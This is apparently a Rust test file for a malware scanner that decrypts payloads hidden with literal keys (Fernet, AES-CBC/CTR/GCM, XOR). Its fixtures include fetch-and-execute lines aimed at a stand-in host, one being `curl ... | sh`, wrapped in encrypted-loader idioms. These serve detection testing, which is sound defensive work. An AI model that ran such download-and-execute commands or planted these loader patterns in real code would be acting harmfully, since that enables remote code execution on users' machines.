//! Tests of the literal-key decryptors: each cipher opened from the idiom malware writes it in, and the
//! near misses (keys from the environment, wrong keys, truncated ciphertext) left alone.

use super::*;
use aes::cipher::{BlockEncryptMut, StreamCipher};
use aes_gcm::aead::Aead;

const PAYLOAD: &str = "exec(requests.get('https://x.example.invalid/p').text)";

fn b64(bytes: &[u8], url: bool) -> String {
    let alphabet: &[u8] = if url {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    } else {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    };
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(alphabet[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn cbc_encrypt<C>(key: &[u8], iv: &[u8], plain: &[u8]) -> Vec<u8>
where
    C: BlockCipher + BlockSizeUser<BlockSize = U16> + BlockEncryptMut + BlockEncrypt + KeyInit,
    cbc::Encryptor<C>: KeyIvInit + BlockEncryptMut,
{
    let mut buffer = plain.to_vec();
    buffer.resize(plain.len() + 16, 0);
    let encryptor = cbc::Encryptor::<C>::new_from_slices(key, iv).unwrap();
    encryptor
        .encrypt_padded_mut::<Pkcs7>(&mut buffer, plain.len())
        .unwrap()
        .to_vec()
}

fn fernet_token(key: &[u8; 32], plain: &[u8]) -> String {
    let iv = [7u8; 16];
    let mut token = vec![0x80];
    token.extend_from_slice(&1_700_000_000u64.to_be_bytes());
    token.extend_from_slice(&iv);
    token.extend(cbc_encrypt::<Aes128>(&key[16..], &iv, plain));
    let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(&key[..16]).unwrap();
    mac.update(&token);
    token.extend(mac.finalize().into_bytes());
    b64(&token, true)
}

fn decrypted(body: &str) -> Vec<(&'static str, String)> {
    let mut found = Vec::new();
    find(body, 0, &mut found);
    found.into_iter().map(|p| (p.encoding, p.decoded)).collect()
}

#[test]
fn fernet_tokens_open_with_the_key_beside_them() {
    let key: [u8; 32] = *b"0123456789abcdefFEDCBA9876543210";
    let body = format!(
        "from cryptography.fernet import Fernet\nexec(Fernet(b'{}').decrypt(b'{}'))\n",
        b64(&key, true),
        fernet_token(&key, PAYLOAD.as_bytes())
    );
    assert_eq!(decrypted(&body), [("fernet", PAYLOAD.to_string())]);
}

#[test]
fn fernet_with_a_wrong_or_missing_key_or_a_truncated_token_is_left_alone() {
    let key: [u8; 32] = *b"0123456789abcdefFEDCBA9876543210";
    let other: [u8; 32] = *b"ZYXWVUTSRQPONMLKJIHGFEDCBA987654";
    let token = fernet_token(&key, PAYLOAD.as_bytes());
    let wrong = format!(
        "f = Fernet(b'{}')\nf.decrypt(b'{token}')\n",
        b64(&other, true)
    );
    assert!(decrypted(&wrong).is_empty());
    let from_env = format!("f = Fernet(os.environ['KEY'])\nf.decrypt(b'{token}')\n");
    assert!(decrypted(&from_env).is_empty());
    let cut = &token[..token.len() - 7];
    let truncated = format!("f = Fernet(b'{}')\nf.decrypt(b'{cut}')\n", b64(&key, true));
    assert!(decrypted(&truncated).is_empty());
    // The raw decryptor refuses short and misaligned tokens without panicking.
    assert!(fernet_decrypt(&key, &[0x80; 10]).is_none());
    assert!(fernet_decrypt(&key, &[0x80; 90]).is_none());
}

#[test]
fn pycryptodome_aes_cbc_with_literal_key_and_iv() {
    let ct = cbc_encrypt::<Aes128>(b"0123456789abcdef", b"fedcba9876543210", PAYLOAD.as_bytes());
    let body = format!(
        "from Crypto.Cipher import AES\nc = AES.new(b'0123456789abcdef', AES.MODE_CBC, b'fedcba9876543210')\nexec(unpad(c.decrypt(base64.b64decode('{}')), 16))\n",
        b64(&ct, false)
    );
    assert_eq!(decrypted(&body), [("aes-cbc", PAYLOAD.to_string())]);
}

#[test]
fn aes_cbc_padded_with_nul_bytes_or_spaces() {
    for pad in [0u8, b' '] {
        let mut plain = PAYLOAD.as_bytes().to_vec();
        plain.resize(PAYLOAD.len().div_ceil(16) * 16 + 16, pad);
        // Encrypt the padded text with PKCS#7 off: the encryptor's padding would add a block of 16s.
        let ct = cbc_encrypt::<Aes128>(b"0123456789abcdef", b"fedcba9876543210", &plain);
        let ct = &ct[..plain.len()];
        let body = format!(
            "from Crypto.Cipher import AES\nKEY = b'0123456789abcdef'\nc = AES.new(KEY, AES.MODE_CBC, b'fedcba9876543210')\nexec(c.decrypt(base64.b64decode('{}')).rstrip())\n",
            b64(ct, false)
        );
        assert_eq!(decrypted(&body), [("aes-cbc", PAYLOAD.to_string())]);
    }
}

#[test]
fn node_aes_256_cbc_with_hex_ciphertext_and_the_iv_in_front() {
    let key = b"k3y-of-exactly-thirty-two-bytes!";
    let iv = [9u8; 16];
    let code = "require('child_process').exec('curl -s https://x.example.invalid/a | sh')";
    let mut data = iv.to_vec();
    data.extend(cbc_encrypt::<Aes256>(key, &iv, code.as_bytes()));
    let body = format!(
        "const d = crypto.createDecipheriv('aes-256-cbc', 'k3y-of-exactly-thirty-two-bytes!', Buffer.from(p.slice(0, 32), 'hex'));\nconst p = '{}';\n",
        hex(&data)
    );
    assert_eq!(decrypted(&body), [("aes-cbc", code.to_string())]);
}

#[test]
fn aes_ctr_and_gcm_with_literal_keys() {
    let key = b"0123456789abcdef0123456789abcdef";
    let iv = [3u8; 16];
    let mut ct = PAYLOAD.as_bytes().to_vec();
    ctr::Ctr128BE::<Aes256>::new_from_slices(key, &iv)
        .unwrap()
        .apply_keystream(&mut ct);
    let body = format!(
        "d = crypto.createDecipheriv('aes-256-ctr', '{}', Buffer.from('{}', 'hex'))\nd.update('{}', 'base64')\n",
        std::str::from_utf8(key).unwrap(),
        hex(&iv),
        b64(&ct, false)
    );
    assert_eq!(decrypted(&body), [("aes-ctr", PAYLOAD.to_string())]);

    let nonce = [5u8; 12];
    let sealed = aes_gcm::Aes256Gcm::new_from_slice(key)
        .unwrap()
        .encrypt(aes_gcm::Nonce::from_slice(&nonce), PAYLOAD.as_bytes())
        .unwrap();
    let mut data = nonce.to_vec();
    data.extend(&sealed);
    let body = format!(
        "aesgcm = AESGCM(b'{}')  # GCM\nexec(aesgcm.decrypt(blob[:12], blob[12:], None))\nblob = base64.b64decode('{}')\n",
        std::str::from_utf8(key).unwrap(),
        b64(&data, false)
    );
    assert_eq!(decrypted(&body), [("aes-gcm", PAYLOAD.to_string())]);
}

#[test]
fn aes_with_a_key_from_the_environment_or_truncated_ciphertext_is_left_alone() {
    let ct = cbc_encrypt::<Aes128>(b"0123456789abcdef", b"fedcba9876543210", PAYLOAD.as_bytes());
    let encoded = b64(&ct, false);
    let body = format!(
        "c = AES.new(os.environ['K'].encode(), AES.MODE_CBC, iv)\nc.decrypt(base64.b64decode('{encoded}'))\n"
    );
    assert!(decrypted(&body).is_empty());
    let cut = b64(&ct[..ct.len() - 5], false);
    let body = format!(
        "c = AES.new(b'0123456789abcdef', AES.MODE_CBC, b'fedcba9876543210')\nc.decrypt(base64.b64decode('{cut}'))\n"
    );
    assert!(decrypted(&body).is_empty());
}

#[test]
fn xor_with_a_repeated_or_one_byte_key() {
    let key = b"s3cr3t";
    let data: Vec<u8> = PAYLOAD
        .bytes()
        .enumerate()
        .map(|(i, b)| b ^ key[i % key.len()])
        .collect();
    let body = format!(
        "k = b's3cr3t'\nd = base64.b64decode('{}')\nexec(bytes(b ^ k[i % len(k)] for i, b in enumerate(d)))\n",
        b64(&data, false)
    );
    assert_eq!(decrypted(&body), [("xor", PAYLOAD.to_string())]);

    let code = "require('child_process').execSync('id')";
    let data: Vec<u8> = code.bytes().map(|b| b ^ 0x5a).collect();
    let body = format!(
        "const s = Buffer.from('{}', 'hex');\nlet o = '';\nfor (let i = 0; i < s.length; i++) o += String.fromCharCode(s[i] ^ 0x5a);\n",
        hex(&data)
    );
    assert_eq!(decrypted(&body), [("xor", code.to_string())]);
}

#[test]
fn checksums_and_hashes_next_to_xor_are_not_payloads() {
    let body = "function crc(s) { let h = 0; for (let i = 0; i < s.length; i++) h = (h ^ s.charCodeAt(i)) % 65521; return h; }\nconst digest = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';\nconst label = 'checksum of the bundle';\n";
    assert!(decrypted(body).is_empty(), "{:?}", decrypted(body));
}

#[test]
fn many_literals_stay_within_the_attempt_budget() {
    let mut body = String::from("c = AES.new(k, AES.MODE_CBC, iv)\n");
    for i in 0..3000 {
        body.push_str(&format!(
            "x{i} = '{}'\n",
            b64(&[(i % 251) as u8; 48], false)
        ));
        body.push_str(&format!("k{i} = '{:016}'\n", i));
    }
    let started = std::time::Instant::now();
    assert!(decrypted(&body).is_empty());
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
}
